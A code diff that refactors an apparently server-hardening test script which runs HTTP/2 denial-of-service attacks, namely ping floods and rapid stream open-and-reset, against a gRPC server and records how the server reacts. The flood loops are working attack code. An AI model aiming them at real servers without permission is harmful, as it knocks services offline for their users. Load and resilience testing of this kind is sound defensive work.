@@ -119,7 +119,9 @@ def never_read(args):
     print(json.dumps({"attack": "never-read", "requests_sent": sent, **reaction}))
 
 
-def ping_flood(args):
+def flood(args, name, count_label, queue_frames):
+    """Sends what `queue_frames(conn)` queues, as fast as the socket takes it, reading nothing,
+    then reads to see what the server did. `queue_frames` returns how many it queued."""
     sock = tls_socket(args)
     conn = h2_connection(sock)
     sent = 0
@@ -127,16 +129,22 @@ def ping_flood(args):
     sock.settimeout(2)
     closed = False
     while time.time() < deadline and not closed:
-        for _ in range(100):
-            conn.ping(struct.pack(">Q", sent))
-            sent += 1
+        sent += queue_frames(conn)
         try:
             sock.sendall(conn.data_to_send())
         except OSError:
             closed = True
     reaction = server_reaction(sock, conn, seconds=3)
     reaction["closed"] = closed or reaction["closed"]
-    print(json.dumps({"attack": "ping-flood", "pings_sent": sent, **reaction}))
+    print(json.dumps({"attack": name, count_label: sent, **reaction}))
+
+
+def ping_flood(args):
+    def pings(conn):
+        for n in range(100):
+            conn.ping(struct.pack(">Q", n))
+        return 100
+    flood(args, "ping-flood", "pings_sent", pings)
 
 
 def decode_bomb(args):
@@ -163,24 +171,13 @@ def decode_bomb(args):
 
 
 def rapid_reset(args):
-    sock = tls_socket(args)
-    conn = h2_connection(sock)
-    opened = 0
-    deadline = time.time() + args.seconds
-    closed = False
-    while time.time() < deadline and not closed:
+    def open_and_reset(conn):
         for _ in range(50):
             stream = conn.get_next_available_stream_id()
             conn.send_headers(stream, grpc_headers(SUBMIT))
             conn.reset_stream(stream)
-            opened += 1
-        try:
-            sock.sendall(conn.data_to_send())
-        except OSError:
-            closed = True
-    reaction = server_reaction(sock, conn, seconds=3)
-    reaction["closed"] = closed or reaction["closed"]
-    print(json.dumps({"attack": "rapid-reset", "streams_reset": opened, **reaction}))
+        return 50
+    flood(args, "rapid-reset", "streams_reset", open_and_reset)
 
 
 def garbage(args):
